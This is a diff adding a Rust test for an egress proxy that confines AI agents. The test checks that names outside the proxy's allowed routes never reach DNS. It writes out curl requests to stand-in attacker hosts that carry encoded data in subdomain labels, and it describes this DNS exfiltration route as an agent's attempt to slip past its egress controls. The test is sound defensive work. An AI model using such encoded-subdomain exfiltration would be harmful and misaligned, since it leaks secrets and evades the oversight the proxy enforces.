@@ -980,3 +980,105 @@ fn supervise_holds_go_to_the_proposal_store_and_wait_for_the_operator() {
     assert_eq!(held(format!("again={LEAK}")).join().unwrap(), "200");
     assert_eq!(up.seen().len(), 2);
 }
+
+/// A DNS server on 127.0.0.1:53 of a private network namespace: logs every
+/// name asked (one per line) and answers NXDOMAIN. Exits after 5 minutes
+/// whatever happens.
+const DNS_PROBE: &str = r#"
+import os, signal, socket, sys
+signal.alarm(300)
+log, pidfile = sys.argv[1], sys.argv[2]
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.bind(("127.0.0.1", 53))
+open(pidfile, "w").write(str(os.getpid()))
+while True:
+    q, peer = s.recvfrom(4096)
+    i, labels = 12, []
+    while i < len(q) and q[i]:
+        labels.append(q[i + 1:i + 1 + q[i]].decode("ascii", "replace"))
+        i += 1 + q[i]
+    with open(log, "a") as f:
+        f.write(".".join(labels) + "\n")
+    # Same id and question, QR + RD + RA, rcode 3 (NXDOMAIN), no answers.
+    s.sendto(q[:2] + b"\x81\x83" + q[4:6] + b"\x00\x00\x00\x00\x00\x00" + q[12:i + 5], peer)
+"#;
+
+/// The attack: an agent asks for names no route allows — over a CONNECT
+/// tunnel, in plain HTTP, and as an encoded label under a wildcard route —
+/// hoping the proxy's resolver carries the data out as a DNS query (a
+/// channel that needs no reply). The proxy runs in a private network
+/// namespace whose only resolver logs every name it is asked; a routed name
+/// shows the probe sees the proxy's lookups.
+#[test]
+fn no_dns_query_leaves_for_a_name_no_route_allows() {
+    let dir = tempfile::tempdir().unwrap();
+    let (log, pidfile, probe, resolv) = (
+        dir.path().join("dns.log"),
+        dir.path().join("dns.pid"),
+        dir.path().join("dns.py"),
+        dir.path().join("resolv.conf"),
+    );
+    std::fs::write(&probe, DNS_PROBE).unwrap();
+    std::fs::write(&resolv, "nameserver 127.0.0.1\noptions attempts:1 timeout:2\n").unwrap();
+    std::fs::write(&log, "").unwrap();
+    let bottle = dir.path().join("dns.md");
+    std::fs::write(
+        &bottle,
+        "---\negress:\n  routes:\n    - host: allowed.example.com\n    - host: \"*.cdn.example.com\"\n---\n",
+    )
+    .unwrap();
+    let ca_dir = dir.path().join("ca");
+    let script = format!(
+        "set -e; ip link set lo up; mount --bind {resolv} /etc/resolv.conf; python3 {probe} {log} {pid} & \
+         for i in $(seq 100); do [ -s {pid} ] && break; sleep 0.05; done; \
+         exec {bin} egress --bottle {bottle} --ca-dir {ca} --listen 127.0.0.1:0",
+        resolv = resolv.display(),
+        probe = probe.display(),
+        log = log.display(),
+        pid = pidfile.display(),
+        bin = env!("CARGO_BIN_EXE_bot-bottle"),
+        bottle = bottle.display(),
+        ca = ca_dir.display(),
+    );
+    let mut cmd = Command::new("unshare");
+    cmd.args(["--net", "--mount", "--", "sh", "-c", &script]).stdout(Stdio::null());
+    let support::Server { mut child, ready: addr, log: proxy_log } =
+        support::start(cmd, "bot-bottle: egress listening on ");
+    let probe_pid = std::fs::read_to_string(&pidfile).unwrap();
+    let proxy_pid = child.id().to_string();
+    let curl_in_namespace = |args: &[&str]| -> String {
+        let o = Command::new("nsenter")
+            .args(["--target", &proxy_pid, "--net", "--", "curl", "-sS", "--max-time", "20"])
+            .args(["--proxy", &format!("http://{addr}"), "--cacert"])
+            .arg(ca_dir.join("ca.pem"))
+            .args(["-o", "/dev/null", "-w", "%{http_code}"])
+            .args(args)
+            .output()
+            .unwrap();
+        String::from_utf8_lossy(&o.stdout).to_string()
+    };
+    let secret_label = "mfrggzdfmztwq2lknnwg23tpobyxe43u";
+    let refused = [
+        curl_in_namespace(&["https://exfil-aGVsbG8gd29ybGQ.attacker.example.net/"]),
+        curl_in_namespace(&["http://plain-text-leak.attacker.example.net/"]),
+        curl_in_namespace(&[&format!("https://{secret_label}.cdn.example.com/")]),
+        curl_in_namespace(&["https://allowed.example.com.attacker.example.net/"]),
+    ];
+    // The routed name is looked up (NXDOMAIN: the proxy answers 502).
+    let routed = curl_in_namespace(&["https://allowed.example.com/"]);
+    let _ = Command::new("kill").arg(probe_pid.trim()).status();
+    let _ = child.kill();
+    let _ = child.wait();
+    let asked = std::fs::read_to_string(&log).unwrap();
+    let said = proxy_log.lock().unwrap().join("\n");
+    assert!(
+        asked.contains("allowed.example.com"),
+        "the probe saw no lookup of the routed name ({routed}): {asked:?}\n{said}"
+    );
+    for status in &refused {
+        assert_eq!(status, "403", "a name no route allows was not refused\n{said}");
+    }
+    for line in asked.lines() {
+        assert_eq!(line, "allowed.example.com", "a DNS query left for a name no route allows:\n{asked}\n{said}");
+    }
+}
